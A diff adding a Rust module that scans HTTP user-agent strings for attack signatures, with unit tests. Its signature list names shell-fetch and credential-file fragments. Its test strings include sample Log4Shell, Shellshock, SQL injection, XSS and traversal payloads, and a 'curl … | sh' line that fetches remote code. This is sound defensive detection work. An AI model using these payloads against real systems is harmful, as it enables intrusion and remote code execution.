@@ -0,0 +1,212 @@
+use std::fmt;
+
+/// User agents longer than this are flagged as `ThreatKind::Oversized`. Most browsers stay under
+/// 512 bytes, but in-app browsers (`FBAN/FBAV`, Instagram, Line) and IE with toolbars installed
+/// can pass 1 KB.
+pub const MAX_LENGTH: usize = 4096;
+
+#[derive(Clone, Copy, Debug, PartialEq)]
+pub enum ThreatKind {
+    /// Remote command execution through a shell (`$(...)`, `; wget ...`)
+    CommandInjection,
+    CrossSiteScripting,
+    /// Log4j lookups such as `${jndi:ldap://...}` (Log4Shell)
+    Log4jLookup,
+    /// Longer than `MAX_LENGTH`
+    Oversized,
+    PathTraversal,
+    /// Bash function definitions exploiting CVE-2014-6271
+    Shellshock,
+    SqlInjection,
+}
+
+impl ThreatKind {
+    /// Whether the finding is an attack payload by itself. A long user agent is only suspicious.
+    pub fn is_conclusive(&self) -> bool {
+        *self != ThreatKind::Oversized
+    }
+}
+
+impl fmt::Display for ThreatKind {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        fmt::Debug::fmt(self, f)
+    }
+}
+
+/// A signature found in a user agent. `start` and `end` are byte offsets into the scanned
+/// string.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Finding {
+    pub kind: ThreatKind,
+    pub start: usize,
+    pub end: usize,
+}
+
+/// Lowercase signatures; they're compared ASCII case-insensitively. Where two signatures share
+/// a prefix the longer one must come first. A signature ending in a letter or digit only matches
+/// at the end of a word, so `| sh` doesn't match `| Shopping`.
+///
+/// Fragments that also show up in harmless text (`sleep(`, `<img`, `alert(`) are only
+/// signatures with the context that makes them an injection: `' or sleep(5)`, or an event
+/// handler attribute.
+const SIGNATURES: &[(ThreatKind, &str)] = &[
+    (ThreatKind::Log4jLookup, "${jndi:"),
+    (ThreatKind::Log4jLookup, "${${"),
+    (ThreatKind::Log4jLookup, "${lower:"),
+    (ThreatKind::Log4jLookup, "${upper:"),
+    (ThreatKind::Log4jLookup, "${env:"),
+    (ThreatKind::Log4jLookup, "%24%7bjndi"),
+
+    (ThreatKind::Shellshock, "() {"),
+
+    (ThreatKind::SqlInjection, "' or '1'='1"),
+    (ThreatKind::SqlInjection, "' or 1=1"),
+    (ThreatKind::SqlInjection, "\" or 1=1"),
+    (ThreatKind::SqlInjection, " or 1=1"),
+    (ThreatKind::SqlInjection, "union select"),
+    (ThreatKind::SqlInjection, "union all select"),
+    (ThreatKind::SqlInjection, " or sleep("),
+    (ThreatKind::SqlInjection, " and sleep("),
+    (ThreatKind::SqlInjection, "select sleep("),
+    (ThreatKind::SqlInjection, " or benchmark("),
+    (ThreatKind::SqlInjection, " and benchmark("),
+    (ThreatKind::SqlInjection, "waitfor delay"),
+    (ThreatKind::SqlInjection, "; drop table"),
+    (ThreatKind::SqlInjection, "information_schema"),
+    (ThreatKind::SqlInjection, "xp_cmdshell"),
+
+    (ThreatKind::CrossSiteScripting, "<script"),
+    (ThreatKind::CrossSiteScripting, "%3cscript"),
+    (ThreatKind::CrossSiteScripting, "javascript:"),
+    (ThreatKind::CrossSiteScripting, "onerror="),
+    (ThreatKind::CrossSiteScripting, "onload="),
+    (ThreatKind::CrossSiteScripting, "<iframe"),
+    (ThreatKind::CrossSiteScripting, "alert(document."),
+
+    (ThreatKind::PathTraversal, "../"),
+    (ThreatKind::PathTraversal, "..\\"),
+    (ThreatKind::PathTraversal, "..%2f"),
+    (ThreatKind::PathTraversal, "..%5c"),
+    (ThreatKind::PathTraversal, "%2e%2e"),
+    (ThreatKind::PathTraversal, "/etc/passwd"),
+    (ThreatKind::PathTraversal, "win.ini"),
+
+    (ThreatKind::CommandInjection, "$("),
+    (ThreatKind::CommandInjection, "; wget "),
+    (ThreatKind::CommandInjection, "; curl "),
+    (ThreatKind::CommandInjection, "/bin/sh"),
+    (ThreatKind::CommandInjection, "/bin/bash"),
+    (ThreatKind::CommandInjection, "cmd.exe"),
+    (ThreatKind::CommandInjection, "| sh"),
+    (ThreatKind::CommandInjection, "|sh"),
+];
+
+/// Scan a raw user agent for known attack payloads in a single left-to-right pass. Each
+/// position is compared against the fixed `SIGNATURES` list, so the cost is linear in the
+/// length of the input and there's no backtracking to exploit.
+pub fn scan(ua: &str) -> Vec<Finding> {
+    let bytes = ua.as_bytes();
+    let mut findings = vec![];
+
+    if bytes.len() > MAX_LENGTH {
+        findings.push(Finding { kind: ThreatKind::Oversized, start: MAX_LENGTH, end: bytes.len() });
+    }
+
+    let mut index = 0;
+    while index < bytes.len() {
+        let rest = &bytes[index..];
+
+        let matched = SIGNATURES.iter().find(|&&(_, signature)| {
+            let signature = signature.as_bytes();
+            let ends_word = !signature[signature.len() - 1].is_ascii_alphanumeric() ||
+                rest.get(signature.len()).is_none_or(|byte| !byte.is_ascii_alphanumeric());
+
+            rest.len() >= signature.len() && rest[..signature.len()].eq_ignore_ascii_case(signature) && ends_word
+        });
+
+        match matched {
+            Some(&(kind, signature)) => {
+                findings.push(Finding { kind: kind, start: index, end: index + signature.len() });
+                index += signature.len();
+            },
+            None => index += 1,
+        }
+    }
+
+    findings
+}
+
+/// The distinct kinds of threat found, in the order they first appear
+pub fn kinds(findings: &[Finding]) -> Vec<ThreatKind> {
+    let mut kinds = vec![];
+
+    for finding in findings {
+        if !kinds.contains(&finding.kind) {
+            kinds.push(finding.kind)
+        }
+    }
+
+    kinds
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{kinds, scan, Finding, ThreatKind, MAX_LENGTH};
+
+    type StaticStr = &'static str;
+
+    const CHROME: StaticStr     = "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36";
+    const LOG4SHELL: StaticStr  = "${jndi:ldap://198.51.100.1:1389/a}";
+    const SHELLSHOCK: StaticStr = "() { :; }; /bin/bash -c 'id'";
+    const SQLI: StaticStr       = "Mozilla/5.0' UNION SELECT password FROM users--";
+    const XSS: StaticStr        = "<script>alert(1)</script>";
+    const TRAVERSAL: StaticStr  = "../../../../etc/passwd";
+
+    #[test]
+    fn test_browser_is_clean() {
+        assert_eq!(scan(CHROME), vec![])
+    }
+
+    #[test]
+    fn test_log4shell() {
+        assert_eq!(scan(LOG4SHELL), vec![Finding { kind: ThreatKind::Log4jLookup, start: 0, end: 7 }])
+    }
+
+    #[test]
+    fn test_shellshock() {
+        assert_eq!(kinds(&scan(SHELLSHOCK)), vec![ThreatKind::Shellshock, ThreatKind::CommandInjection])
+    }
+
+    #[test]
+    fn test_sql_injection_is_case_insensitive() {
+        let findings = scan(SQLI);
+
+        assert_eq!(findings, vec![Finding { kind: ThreatKind::SqlInjection, start: 13, end: 25 }]);
+        assert_eq!(&SQLI[findings[0].start..findings[0].end], "UNION SELECT");
+    }
+
+    #[test]
+    fn test_xss_and_traversal() {
+        assert_eq!(kinds(&scan(XSS)), vec![ThreatKind::CrossSiteScripting]);
+        assert_eq!(kinds(&scan(TRAVERSAL)), vec![ThreatKind::PathTraversal]);
+        assert_eq!(scan(TRAVERSAL).len(), 4);
+    }
+
+    #[test]
+    fn test_fragments_need_injection_context() {
+        assert_eq!(scan("SleepTracker/2.1 (iPhone; sleep(8h) goal)"), vec![]);
+        assert_eq!(scan("MyApp/1.0 (<img> viewer; alert() helper)"), vec![]);
+        assert_eq!(scan("ShopApp/3.0 (Android 13 | Shopping)"), vec![]);
+
+        assert_eq!(kinds(&scan("Mozilla/5.0' or sleep(5)--")), vec![ThreatKind::SqlInjection]);
+        assert_eq!(kinds(&scan("<img src=x onerror=alert(1)>")), vec![ThreatKind::CrossSiteScripting]);
+        assert_eq!(kinds(&scan("x; curl http://198.51.100.1/x | sh")), vec![ThreatKind::CommandInjection]);
+    }
+
+    #[test]
+    fn test_oversized() {
+        let junk = "A".repeat(MAX_LENGTH + 1);
+
+        assert_eq!(scan(&junk), vec![Finding { kind: ThreatKind::Oversized, start: MAX_LENGTH, end: MAX_LENGTH + 1 }])
+    }
+}